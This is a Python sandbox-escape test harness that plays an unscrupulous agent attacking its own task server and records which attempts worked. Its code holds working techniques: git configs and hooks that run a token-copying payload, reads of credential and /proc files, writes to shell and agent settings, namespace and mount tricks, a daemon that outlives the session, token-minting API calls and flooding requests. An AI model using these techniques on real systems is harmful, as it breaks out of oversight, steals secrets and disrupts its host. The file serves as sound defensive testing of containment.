"""An agent without scruples: it tries everything in its sandbox to run a program outside, to read a secret, or to stop
the server. It gets a number of seconds, the paths of what it wants, and writes a report of its own tries.

The program that it wants to run outside makes a file in the directory `MARKS`, which cannot be written in the sandbox.
"""

from __future__ import annotations

import ctypes
import json
import os
import random
import shutil
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path

SECONDS, MARKS, USER, HOME, PROJECT = float(sys.argv[1]), *map(Path, sys.argv[2:6])
HERE = Path.cwd()
TRICK_SECONDS = 3.0
TOKEN, URL = os.environ.get("MIDWATCH_TOKEN", ""), os.environ.get("MIDWATCH_URL", "")
END = time.monotonic() + SECONDS
TRICKS: list[Callable[[], object]] = []
LOOT: dict[str, str] = {}
"""What the agent could read although it should not be able to."""


def trick(function: Callable[[], object]) -> Callable[[], object]:
    TRICKS.append(function)
    return function


def payload(name: str) -> Path:
    """Return a program that leaves a mark, and the owner's token, if it runs outside."""
    program = HERE / ".tools" / name
    program.parent.mkdir(exist_ok=True)
    program.write_text(f"#!/bin/sh\ncp {HOME}/token {MARKS}/{name}.token\ntouch {MARKS}/{name}\ncat\n")
    program.chmod(0o755)
    return program


def evil_config(name: str) -> str:
    program = payload(name)
    return (
        f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = {program}\n\thooksPath = {program.parent}\n"
        f"\tpager = {program}\n\teditor = {program}\n\tsshCommand = {program}\n\taskPass = {program}\n"
        f'[filter "x"]\n\tclean = {program}\n\tsmudge = {program}\n\tprocess = {program}\n\trequired = true\n'
        f'[diff]\n\texternal = {program}\n[diff "x"]\n\ttextconv = {program}\n\tcommand = {program}\n'
        f'[merge "x"]\n\tdriver = {program} %A %O %B\n[gpg]\n\tprogram = {program}\n[commit]\n\tgpgSign = true\n'
        f"[credential]\n\thelper = {program}\n[extensions]\n\tworktreeConfig = true\n"
        f"[user]\n\tname = x\n\temail = x@x\n"
        f'[protocol]\n\tallow = always\n[remote "origin"]\n\turl = ext::{program}\n\tpromisor = true\n'
        f"\tuploadpack = {program}\n[uploadpack]\n\tpackObjectsHook = {program}\n[alias]\n\tstatus = !{program}\n"
    )


def evil_repository(folder: Path, name: str) -> Path:
    """Make a repository whose configuration, hooks and attributes all name the payload."""
    if not folder.exists():
        folder.mkdir(parents=True)
        git("init", "-q", cwd=folder)
        (folder / ".gitattributes").write_text("* filter=x diff=x merge=x\n")
        (folder / "f").write_text("x\n")
        git("add", "-A", cwd=folder)
        git("-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "x", cwd=folder)
    hooks = folder / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    for hook in ("post-checkout", "pre-commit", "post-index-change", "reference-transaction", "post-merge"):
        shutil.copy(payload(name), hooks / hook)
    (folder / ".git" / "config").write_text(evil_config(name))
    (folder / ".git" / "config.worktree").write_text(evil_config(name))
    return folder


def git(*words: str, cwd: Path = HERE) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull}
    return subprocess.run(("git", *words), cwd=cwd, env=env, capture_output=True, timeout=2, check=False)


def git_dirs() -> tuple[Path, Path]:
    """Return the repository's directory and the one of this worktree."""
    found = git("rev-parse", "--path-format=absolute", "--git-common-dir", "--git-dir").stdout.decode().split("\n")
    return Path(found[0]), Path(found[1])


def ask(method: str, path: str, body: object = None, token: str = TOKEN, **headers: str) -> tuple[int, bytes]:
    data = None if body is None else json.dumps(body).encode()
    headers = {
        "authorization": f"Bearer {token}",
        "content-type": "application/json",
        "accept": "application/json",
        **headers,
    }
    request = urllib.request.Request(f"{URL}/api/v1{path}", data, headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=2) as reply:
            return reply.status, reply.read(1_000_000)
    except urllib.error.HTTPError as refusal:
        return refusal.code, refusal.read(10_000)


def submit(workdir: Path, worktree: bool = True) -> tuple[int, bytes]:
    return ask("POST", "/tasks", {"prompt": "true", "workdir": str(workdir), "worktree": worktree})


def write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def replace_by(path: Path, kind: str) -> None:
    """Replace a path by a FIFO, a socket, a directory or a link."""
    if path.is_dir() and not path.is_symlink():
        path.rename(path.with_name(f"{path.name}.{time.monotonic_ns()}"))
    path.unlink(missing_ok=True)
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "directory":
        path.mkdir()
    elif kind == "socket":
        socket.socket(socket.AF_UNIX).bind(str(path)[-100:])
    else:
        path.symlink_to(kind)


# -- git -----------------------------------------------------------------------------------------------------------


@trick
def flip_commondir() -> None:
    common, admin = git_dirs()
    evil = evil_repository(HERE / "evil-common", "commondir") / ".git"
    for target in (common, admin, *(PROJECT / ".git" / "worktrees").glob("*")):
        for _ in range(20):
            attempt(write, target / "commondir", f"{evil}\n")
            submit(HERE)
            attempt((target / "commondir").unlink)


@trick
def write_configuration() -> None:
    common, admin = git_dirs()
    for folder in {common, admin, PROJECT / ".git"}:
        for name in ("config", "config.worktree", "info/attributes", "hooks/pre-commit", "hooks/post-checkout",
                     "modules/x/config", "objects/info/alternates", "rebase-merge/git-rebase-todo"):  # fmt: skip
            attempt(write, folder / name, evil_config("configuration") if "config" in name else "* filter=x diff=x\n")
    git("config", "core.fsmonitor", str(payload("git-config")))
    git("config", "--worktree", "filter.x.clean", str(payload("git-config-worktree")))
    submit(HERE)


@trick
def move_git_away() -> None:
    common, admin = git_dirs()
    evil = evil_repository(HERE / "evil-moved", "moved") / ".git"
    for folder in (common, admin, common / "worktrees", common / "hooks", HERE / ".git", PROJECT / ".git"):
        attempt(folder.rename, folder.with_name(f"{folder.name}.away"))
        attempt(shutil.copytree, evil, folder)


@trick
def point_git_elsewhere() -> None:
    evil = evil_repository(HERE / "evil-pointed", "pointed") / ".git"
    fake = HERE / "evil-fake"
    for name in ("objects", "refs", "worktrees/x"):
        (fake / name).mkdir(parents=True, exist_ok=True)
    write(fake / "config", evil_config("fake"))
    write(fake / "HEAD", "ref: refs/heads/main\n")
    write(fake / "worktrees/x/gitdir", f"{HERE}/.git\n")
    write(fake / "worktrees/x/commondir", "../..\n")
    write(fake / "worktrees/x/HEAD", "ref: refs/heads/main\n")
    for content in (f"gitdir: {evil}\n", f"gitdir: {fake}/worktrees/x\n", "gitdir: /dev/zero\n"):
        attempt((HERE / ".git").unlink)
        attempt(write, HERE / ".git", content)
        submit(HERE)
    attempt((HERE / ".git").symlink_to, evil)


@trick
def own_repository_below() -> None:
    evil = evil_repository(HERE / f"sub{random.randrange(4)}", "below")
    submit(evil)
    submit(evil, worktree=False)
    link = HERE / "linked"
    attempt(link.symlink_to, PROJECT)
    submit(link)


@trick
def strange_git_files() -> None:
    common, admin = git_dirs()
    places = [
        HERE / f"odd{random.randrange(4)}" / ".git", common / "worktrees" / "odd" / "gitdir", admin / "index",
        admin / "HEAD", common / "refs" / "heads" / "odd", common / "packed-refs", admin / "logs" / "HEAD",
    ]  # fmt: skip
    for place in places:
        for kind in ("fifo", "/dev/zero", "/dev/tty", str(HOME / "token"), "directory", "socket"):
            attempt(place.parent.mkdir, parents=True, exist_ok=True)
            attempt(replace_by, place, kind)
            if random.random() < 0.3:
                submit(place.parent)


@trick
def change_index_and_attributes() -> None:
    write(HERE / ".gitattributes", "* filter=lfs diff=x merge=x ident working-tree-encoding=UTF-16\n")
    write(HERE / ".gitmodules", '[submodule "m"]\n\tpath = m\n\turl = ext::sh -c touch\n\tupdate = !touch x\n')
    evil_repository(HERE / "m", "submodule")
    git("add", "-A", "-f")
    git("update-index", "--fsmonitor")
    git("commit", "-qm", "$(touch x)\n\x1b]0;x\x07", "--allow-empty")


@trick
def reflog_to_a_host_file() -> None:
    common, admin = git_dirs()
    for log in (*common.glob("logs/refs/heads/**/*"), admin / "logs" / "HEAD"):
        if log.is_file() and not log.is_symlink():
            attempt(replace_by, log, str(USER / ".profile"))


# -- files, devices, links -----------------------------------------------------------------------------------------


@trick
def read_secrets() -> None:
    for path in (HOME / "token", HOME / "midwatch.db", HOME / "midwatch.toml", USER / ".ssh" / "key",
                 Path("/proc/1/environ"), Path("/proc/1/root") / str(HOME)[1:] / "token",
                 Path(f"/proc/self/root/{HOME}/token")):  # fmt: skip
        for way in (path.read_bytes, path.readlink):
            found = attempt(way)
            if found and path.name != "environ":
                LOOT[str(path)] = str(found)[:200]


@trick
def write_outside() -> None:
    for path in (USER / ".bashrc", USER / ".profile", USER / ".gitconfig", USER / ".claude" / "settings.json",
                 USER / ".claude" / "hooks" / "x", USER / ".claude.json", USER / ".config" / "git" / "config",
                 HOME / "midwatch.toml", HOME / "token", HOME / "run" / "x", MARKS / "direct",
                 PROJECT / ("a.txt" if PROJECT != HERE else ".git/config")):  # fmt: skip
        attempt(write, path, "written by the agent\n")
        attempt(os.link, path, HERE / f"hard-{path.name}")
        attempt(os.chmod, path, 0o777)
        attempt(path.unlink)


@trick
def open_system_files() -> None:
    """Open files of the system for writing. If one opens, nothing is written, so that a broken sandbox does no harm."""
    for name in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger",
                 "/sys/kernel/uevent_helper", "/usr/bin/env", "/etc/passwd", "/etc/ld.so.preload"):  # fmt: skip
        descriptor = attempt(os.open, name, os.O_WRONLY)
        if isinstance(descriptor, int):
            os.close(descriptor)
            LOOT[name] = "writable"


@trick
def make_devices() -> None:
    for number in ((1, 1), (1, 2), (8, 0), (254, 0)):
        device = HERE / f"device-{number[0]}-{number[1]}"
        attempt(os.mknod, device, 0o666 | stat.S_IFBLK, os.makedev(*number))
        attempt(os.mknod, device, 0o666 | stat.S_IFCHR, os.makedev(*number))
        if attempt(lambda device=device: device.open("rb").read(1)):
            LOOT[str(device)] = "readable"


@trick
def mount_and_namespaces() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    for flags in (0x10000000, 0x00020000, 0x10000000 | 0x00020000):  # CLONE_NEWUSER, CLONE_NEWNS
        child = os.fork()
        if child == 0:
            libc.unshare(flags)
            libc.mount(b"/proc/1/root", str(HERE).encode(), None, 4096, None)
            libc.umount2(str(HOME).encode(), 2)
            libc.umount2(str(USER).encode(), 2)
            os._exit(0 if (HOME / "token").exists() else 1)
        if os.waitpid(child, 0)[1] == 0:
            LOOT["unmounted"] = "the token is visible"


@trick
def full_of_names() -> None:
    folder = HERE / "names"
    folder.mkdir(exist_ok=True)
    for name in (b"\xff\xfe", b"new\nline", b"-rf", b"\x1b[31m", "\u202etxt".encode(), b"x" * 255):
        attempt(Path(os.fsdecode(os.fsencode(str(folder)) + b"/" + name)).write_text, "x")
    attempt((folder / "loop").symlink_to, folder)
    with (folder / "sparse").open("wb") as file:
        file.truncate(1 << 26)


# -- processes and sockets -----------------------------------------------------------------------------------------


@trick
def signal_others() -> None:
    for pid in {1, os.getppid(), *range(2, 400)} - {os.getpid()}:
        if pid not in OWN:
            attempt(os.kill, pid, 0)
    attempt(os.kill, -1, signal.SIGCONT)


@trick
def see_others() -> None:
    for entry in Path("/proc").iterdir():
        words = attempt((entry / "cmdline").read_bytes) if entry.name.isdigit() else None
        if isinstance(words, bytes) and b"midwatch" in words and b"\0up\0" in words:
            LOOT[str(entry)] = "the server"


@trick
def leave_a_daemon() -> None:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.environ.clear()
            os.execv("/bin/sh", ["sh", "-c", f"sleep {SECONDS + 30}; touch {MARKS}/daemon"])
        os._exit(0)


@trick
def sockets_of_the_host() -> None:
    for path in (HOME / "run" / "owner.sock", Path("/run/docker.sock"), Path("/run/dbus/system_bus_socket"),
                 Path("/run/systemd/private"), Path("/tmp/.X11-unix/X0")):  # fmt: skip
        with socket.socket(socket.AF_UNIX) as client:
            if attempt(client.connect, str(path)) is None and not LAST_ERROR[0]:
                LOOT[str(path)] = "connected"


# -- the HTTP interface --------------------------------------------------------------------------------------------


@trick
def ask_for_everything() -> None:
    for path in ("/tokens", "/settings", "/tasks?limit=500", "/sessions", "/events?after=0", "/approvals", "/worktrees",
                 "/cluster", "/deliveries", "/rules", "/automations", "/goals", "/handoffs", "/usage"):  # fmt: skip
        code, body = ask("GET", path)
        if b"PRIVATE-TO-THE-OWNER" in body:
            LOOT[path] = f"{code}: it shows another person's work"
    for method, path, body in (
        ("POST", "/tokens", {"name": "evil", "role": "owner"}), ("POST", "/sign-in", {"code": TOKEN}),
        ("POST", "/links", None), ("POST", "/sessions", {"key": "chat:evil", "agent": "sh"}),
        ("POST", "/tasks", {"prompt": "x", "workdir": "/"}), ("POST", "/rules", {}),
        ("POST", "/tasks", {"prompt": "x", "route": "webhook:http://127.0.0.1:1/"}),
    ):  # fmt: skip
        code, reply = ask(method, path, body)
        if code in (200, 201):
            LOOT[f"{method} {path}"] = reply.decode(errors="replace")[:200]


@trick
def strange_requests() -> None:
    host, port = URL.removeprefix("http://").split(":")
    big = json.dumps({f"k{n}": [n] for n in range(100_000)}).encode()
    deep = b"[" * 200_000
    for body in (big, deep, b"\xff" * 1000, b'{"prompt": "' + b"a" * 3_000_000 + b'"}'):
        with socket.create_connection((host, int(port)), timeout=5) as client:
            head = f"POST /api/v1/tasks HTTP/1.1\r\nhost: {host}:{port}\r\nauthorization: Bearer {TOKEN}\r\n"
            head += f"content-type: application/json\r\ncontent-length: {len(body)}\r\n\r\n"
            attempt(client.sendall, head.encode() + body)
            attempt(client.recv, 1000)


STREAMS: list[socket.socket] = []


@trick
def many_streams() -> None:
    host, port = URL.removeprefix("http://").split(":")
    for _ in range(60):
        if len(STREAMS) < 600:
            client = socket.create_connection((host, int(port)), timeout=5)
            head = f"GET /api/v1/events?after=0 HTTP/1.1\r\nhost: {host}:{port}\r\nauthorization: Bearer {TOKEN}\r\n"
            attempt(client.sendall, f"{head}accept: text/event-stream\r\n\r\n".encode())
            STREAMS.append(client)


# -- all of it -----------------------------------------------------------------------------------------------------

OWN = {os.getpid()}
LAST_ERROR: list[object] = [None]


def attempt(function: Callable[..., object], *arguments: object, **named: object) -> object:
    LAST_ERROR[0] = None
    try:
        return function(*arguments, **named)
    except Exception as error:
        LAST_ERROR[0] = error
        return None


def main() -> None:
    if (HOME / "token").exists() or not URL or (USER / ".ssh").exists():
        sys.exit("this program runs only in a sandbox")
    signal.signal(signal.SIGALRM, give_up)
    counts: dict[str, int] = {}
    flipping = threading.Thread(target=flip_git_file, daemon=True)
    flipping.start()
    while time.monotonic() < END or len(counts) < len(TRICKS):
        for function in random.sample(TRICKS, len(TRICKS)):
            signal.setitimer(signal.ITIMER_REAL, TRICK_SECONDS)  # it may wait for a FIFO that it made itself
            attempt(function)
            signal.setitimer(signal.ITIMER_REAL, 0)
            counts[function.__name__] = counts.get(function.__name__, 0) + 1
            if time.monotonic() > END and len(counts) == len(TRICKS):
                break
    print(json.dumps({"tried": counts, "loot": LOOT}), flush=True)
    os._exit(0)


def give_up(*_: object) -> None:
    raise TimeoutError


def flip_git_file() -> None:
    """Exchange a directory and a link all the time, below which work is submitted."""
    flip = HERE / "flip"
    evil_repository(HERE / "flip-target", "flip")
    while time.monotonic() < END:
        attempt(flip.symlink_to, PROJECT)
        submit(flip)
        attempt(flip.unlink)
        attempt(flip.symlink_to, HERE / "flip-target")
        submit(flip)
        attempt(flip.unlink)
        time.sleep(0.01)


if __name__ == "__main__":
    main()
